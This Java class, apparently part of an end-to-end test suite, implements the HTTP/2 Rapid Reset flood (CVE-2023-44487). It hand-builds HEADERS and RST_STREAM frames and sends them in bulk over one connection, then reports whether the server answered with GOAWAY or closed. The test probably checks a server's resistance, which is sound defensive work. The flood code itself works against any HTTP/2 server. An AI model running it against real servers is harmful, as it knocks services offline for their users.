package fairlead.e2e;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * A caller that opens streams on one connection and resets each at once, as fast as it can write
 * (CVE-2023-44487). One thread; blocks.
 */
final class StreamFlood {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int GOAWAY = 7;
  private static final int END_HEADERS = 4;
  private static final int CANCEL = 8;
  private static final int IN_ONE_WRITE = 100;
  private static final Duration PATIENCE = Duration.ofSeconds(30);

  /** That the other side said nothing before it closed. */
  static final int NO_GOAWAY = -1;

  /**
   * What became of one connection.
   *
   * @param opened streams that were written, of which the last may never have been read
   * @param goAway the code of the other side's last GOAWAY, or {@link #NO_GOAWAY}
   * @param closed whether the other side closed the connection
   */
  record Outcome(int opened, int goAway, boolean closed) {}

  private final Socket socket;
  private final byte[] fields;
  private volatile int goAway = NO_GOAWAY;
  private volatile boolean ended;

  private StreamFlood(Socket socket, byte[] fields) {
    this.socket = socket;
    this.fields = fields;
  }

  /** Opens and resets that many streams of {@code authority}, fewer when it is cut off before. */
  static Outcome run(InetSocketAddress target, String authority, String path, int streams)
      throws IOException, InterruptedException {
    try (Socket socket = new Socket(target.getAddress(), target.getPort())) {
      socket.setSoTimeout(Math.toIntExact(PATIENCE.toMillis()));
      var flood = new StreamFlood(socket, fields(authority, path));
      Thread reader = Thread.ofVirtual().start(flood::read);
      int opened = flood.write(streams);
      if (opened == streams) {
        socket.shutdownOutput();
      }
      reader.join(PATIENCE);
      return new Outcome(opened, flood.goAway, flood.ended);
    }
  }

  private int write(int streams) throws IOException {
    var out = socket.getOutputStream();
    out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    out.write(frame(SETTINGS, 0, 0, new byte[0]));
    byte[] cancel = ByteBuffer.allocate(4).putInt(CANCEL).array();
    int opened = 0;
    try {
      while (opened < streams && !ended) {
        var frames = new ByteArrayOutputStream();
        for (int n = 0; n < IN_ONE_WRITE && opened < streams; n++, opened++) {
          int stream = 2 * opened + 1;
          frames.writeBytes(frame(HEADERS, END_HEADERS, stream, fields));
          frames.writeBytes(frame(RST_STREAM, 0, stream, cancel));
        }
        out.write(frames.toByteArray());
      }
    } catch (IOException _) { // Cut off: what this is about.
      return opened;
    }
    return opened;
  }

  private void read() {
    try {
      var in = new DataInputStream(socket.getInputStream());
      while (true) {
        int word = in.readInt();
        byte[] rest = in.readNBytes(5 + (word >>> 8));
        if ((word & 0xff) == GOAWAY) {
          goAway = ByteBuffer.wrap(rest).getInt(5 + 4);
        }
      }
    } catch (IOException _) { // Closed, or reset as what we still sent was not read.
      ended = true;
    }
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .putInt(payload.length << 8 | type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  /** A gRPC request's header block: of the static table, else as literals (RFC 7541 §6.2.2). */
  private static byte[] fields(String authority, String path) {
    var block = new ByteArrayOutputStream();
    block.write(0x83); // :method POST
    block.write(0x86); // :scheme http
    block.write(0x01);
    text(block, authority);
    block.write(0x04);
    text(block, path);
    block.write(0);
    text(block, "te");
    text(block, "trailers");
    block.write(0);
    text(block, "content-type");
    text(block, "application/grpc");
    return block.toByteArray();
  }

  private static void text(ByteArrayOutputStream block, String text) {
    block.write(text.length());
    block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
  }
}
